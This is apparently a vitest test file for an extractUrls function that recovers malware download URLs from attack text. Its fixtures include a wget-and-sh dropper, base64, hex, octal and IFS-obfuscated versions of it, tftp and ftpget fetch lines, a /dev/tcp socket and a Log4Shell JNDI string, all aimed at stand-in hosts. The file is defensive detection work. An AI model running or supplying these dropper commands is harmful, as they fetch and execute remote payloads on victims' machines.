import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { extractUrls } from './extract.ts'

const urls = (text: string) => extractUrls(text).map(({ url }) => url)
const dropper = 'wget http://198.51.100.9/bins.sh -O /tmp/x; sh /tmp/x'

test.each([
  ['plain', dropper],
  ['url', `/shell?cd+/tmp;${encodeURIComponent(dropper)}`],
  ['url url', encodeURIComponent(encodeURIComponent(`; ${dropper}`))],
  ['ifs', dropper.replaceAll(' ', '${IFS}')],
  ['base64', `echo ${Buffer.from(dropper).toString('base64')}|base64 -d|bash`],
  ['base64 base64', Buffer.from(Buffer.from(`  ${dropper}`).toString('base64')).toString('base64')],
  ['hex', [...dropper].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')],
  ['octal', [...dropper].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')],
  ['html', dropper.replaceAll('/', '&#47;')],
  ['base64', `python3 -c "${gzipSync(dropper).toString('base64')}"`],
])('a URL behind %s is found', (decoded, text) => {
  const found = extractUrls(text)
  expect(found.map(({ url }) => url)).toContain('http://198.51.100.9/bins.sh')
  expect(found.find(({ url }) => url === 'http://198.51.100.9/bins.sh')?.decoded).toBe(decoded)
})

test('tools that name a host and a file give a URL, and the tool', () => {
  expect(extractUrls('tftp 198.51.100.9 -c get t.sh; sh t.sh')).toEqual([
    { url: 'tftp://198.51.100.9/t.sh', decoded: 'plain', tool: 'tftp' },
  ])
  expect(urls('tftp -r t2.sh -g 198.51.100.9')).toEqual(['tftp://198.51.100.9/t2.sh'])
  expect(urls('ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 f1.sh f1.sh')).toEqual([
    'ftp://198.51.100.9/f1.sh',
  ])
  expect(urls('wget -q -O- 198.51.100.9:8080/x|sh')).toEqual(['http://198.51.100.9:8080/x'])
  expect(urls('exec 6<>/dev/tcp/198.51.100.9/60130')).toEqual(['tcp://198.51.100.9:60130'])
  expect(urls('${${lower:j}ndi:${::-l}dap://evil.example/a}')).toContain('ldap://evil.example/a')
  expect(urls('H=198.51.100.9; (wget -qO- http://$H/rondo.x.sh||busybox wget -qO- http://$H/rondo.x.sh)|sh')).toContain(
    'http://198.51.100.9/rondo.x.sh',
  )
})

test('nothing is found where nothing is', () => {
  for (const text of ['', 'uname -a', 'GET / HTTP/1.1', 'wget --version', 'curl -h']) expect(urls(text)).toEqual([])
})

test('no text makes it throw, and it gives a bounded answer', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => extractUrls(text).length <= 64),
    { numRuns: 300 },
  )
  expect(extractUrls('%41'.repeat(100_000)).length).toBe(0)
  expect(extractUrls(Array.from({ length: 500 }, (_, i) => `http://h${i}.example/`).join(' ')).length).toBe(64)
})
